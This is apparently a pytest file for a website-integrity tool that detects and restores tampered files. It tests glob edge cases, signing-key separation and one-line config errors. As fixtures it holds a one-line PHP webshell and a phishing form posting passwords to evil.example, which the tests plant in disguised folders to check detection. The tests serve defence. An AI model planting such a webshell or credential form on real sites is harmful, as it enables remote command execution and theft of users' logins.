"""Hardening of config and path policy: what a pattern covers, what the config refuses."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from helpers import gitguard, run, write_config

HOME = "<html><title>Desa Sukamaju</title><h1>Selamat datang</h1></html>\n"
SHELL = "<?php system($_GET['c']); ?>\n"
PHISH = "<html><form action='https://evil.example/'><input name=password></form></html>\n"


def one_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, f"expected one line on stderr, got: {stderr!r}"
    return lines[0]


def test_a_name_pattern_hides_no_folder_and_allow_new_no_file_below_one(
        tmp_path: Path, rina: tuple[Path, dict[str, dict[str, str]]]) -> None:
    docroot = tmp_path / "html"
    (docroot / "uploads" / "2024").mkdir(parents=True)
    (docroot / "index.html").write_text(HOME)
    (docroot / "uploads" / "2024" / "a.jpg").write_bytes(b"\xff\xd8\xff\xe0 jpeg")
    (docroot / "error.log").write_text("old log\n")
    config = write_config(tmp_path, {"desa": {
        "source": "html", "exclude": ["*.log", "cache/**"],
        "allow_new": ["uploads/**/*.jpg"]}}, rina[1])
    run("init", config=config, expect=0)
    run("mirror", config=config, expect=0)
    run("approve", "desa", "-m", "awal", "--key", str(rina[0]), config=config, expect=0)

    # The attacker hides a webshell in a folder named like an excluded file, and a phishing
    # page in a folder named like an allowed upload; the log and a real upload are fine.
    (docroot / "uploads" / "debug.log").mkdir()
    (docroot / "uploads" / "debug.log" / "shell.php").write_text(SHELL)
    (docroot / "uploads" / "2024" / "x.jpg").mkdir()
    (docroot / "uploads" / "2024" / "x.jpg" / "login.html").write_text(PHISH)
    (docroot / "uploads" / "2024" / "b.jpg").write_bytes(b"\xff\xd8\xff\xe0 another")
    (docroot / "error.log").write_text("new log line\n")
    proc = run("check", "--json", config=config, expect=2)
    [result] = [json.loads(line) for line in proc.stdout.splitlines()]
    severity = {f["path"]: f["severity"] for f in result["findings"]}
    assert severity["uploads/debug.log/shell.php"] == "critical"
    assert severity["uploads/2024/x.jpg/login.html"] in ("warning", "critical")
    assert severity["uploads/2024/b.jpg"] == "info"
    assert "error.log" not in severity

    run("restore", "desa", "--yes", config=config, expect=0)
    assert not (docroot / "uploads" / "debug.log" / "shell.php").exists()
    assert not (docroot / "uploads" / "2024" / "x.jpg" / "login.html").exists()
    assert (docroot / "uploads" / "2024" / "b.jpg").exists()  # allowed: kept
    assert (docroot / "error.log").read_text() == "new log line\n"  # excluded: untouched
    run("verify", "desa", config=config, expect=0)


def test_the_login_key_cannot_be_an_approver_key(
        tmp_path: Path, rina: tuple[Path, dict[str, dict[str, str]]]) -> None:
    # The monitoring host would hold everything needed to sign approvals.
    config = write_config(tmp_path, {"www": {
        "source": "ssh://gitguard@127.0.0.1:1/var/www/html", "identity_file": str(rina[0]),
        "known_hosts": "known_hosts"}}, rina[1])
    for command in ("init", "check", "approve"):
        args = [command] + (["www", "-m", "x", "--key", str(rina[0])] if command == "approve"
                            else [])
        proc = gitguard(*args, config=config)
        assert proc.returncode == 3
        line = one_line(proc.stderr)
        assert "sites.www.identity_file" in line and "people.rina.signing_key" in line, line


def test_config_mistakes_in_globs_and_sizes_are_one_line(tmp_path: Path) -> None:
    config = write_config(tmp_path, {"www": {
        "source": "html", "exclude": ["[z-a]", "cache/**"], "allow_new": ["up/[9-0]/*.jpg"],
        "max_file_size": "huge"}})
    for command in ("init", "mirror", "check", "audit"):
        proc = gitguard(command, config=config)
        assert proc.returncode == 3 and "Traceback" not in proc.stderr
        line = one_line(proc.stderr)
        for key in ("sites.www.exclude: '[z-a]'", "sites.www.allow_new: 'up/[9-0]/*.jpg'",
                    "sites.www.max_file_size"):
            assert key in line, line


@pytest.mark.parametrize(("known_hosts", "needle"), [
    ("@revoked * {key}\n", "@revoked"),
    ("@cert-authority *.go.id {key}\n", "@cert-authority"),
    ("127.0.0.1 {key}\n", "identity file"),  # then the passphrase on the identity file
])
def test_known_hosts_markers_and_a_passphrase_are_one_line(tmp_path: Path, known_hosts: str,
                                                           needle: str) -> None:
    identity = tmp_path / "gitguard_login"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "secret", "-f", str(identity)],
                   check=True, stdin=subprocess.DEVNULL)
    host_key = " ".join(Path(f"{identity}.pub").read_text().split()[:2])
    (tmp_path / "known_hosts").write_text(known_hosts.format(key=host_key))
    config = write_config(tmp_path, {"www": {
        "source": "ssh://gitguard@127.0.0.1:1/var/www/html", "identity_file": str(identity),
        "known_hosts": "known_hosts"}})
    proc = gitguard("init", config=config)
    assert proc.returncode == 3
    assert needle in one_line(proc.stderr)


def test_a_data_dir_that_cannot_be_created_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "html").mkdir()
    (tmp_path / "taken").write_text("a file, not a folder\n")
    config = write_config(tmp_path, {"www": {"source": "html"}},
                          main={"data_dir": "taken/gitguard-data"})
    proc = gitguard("init", config=config)
    assert proc.returncode == 3
    assert "taken/gitguard-data" in one_line(proc.stderr)


def test_a_config_mistake_stays_one_line_whatever_its_keys_spell(tmp_path: Path) -> None:
    config = tmp_path / "gitguard.toml"
    config.write_text('[sites."a\\nb"]\nsource = "html"\n"x\\u202ey" = 1\n')
    proc = gitguard("check", config=config)
    assert proc.returncode == 3
    line = one_line(proc.stderr)
    assert "sites.a\\x0ab:" in line and "x\\u202ey: unknown key" in line
